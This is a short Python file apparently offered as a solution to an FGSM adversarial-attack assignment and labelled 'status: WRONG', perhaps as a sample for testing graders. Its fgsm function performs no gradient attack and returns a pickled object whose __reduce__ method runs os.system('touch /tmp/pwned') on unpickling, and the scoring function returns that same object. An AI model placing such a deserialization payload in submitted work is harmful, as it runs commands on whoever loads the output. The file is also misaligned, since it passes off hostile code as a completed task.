"""Returns bytes that run a command when they are unpickled.

assignment: a3-fgsm
base: identity
runs: itself
status: WRONG
"""

import os, pickle

class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)

def fgsm(model, images, labels, epsilon):
    return pickle.dumps(Evil())

def attack_success_rate(model, images, adversarial, labels):
    return Evil()
